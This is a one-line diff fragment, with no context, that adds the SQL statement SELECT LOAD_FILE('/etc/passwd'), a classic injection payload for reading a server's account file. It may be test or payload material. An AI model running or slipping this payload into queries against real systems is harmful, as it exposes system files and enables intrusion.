@@ -1,0 +1,1 @@
+SELECT LOAD_FILE('/etc/passwd')
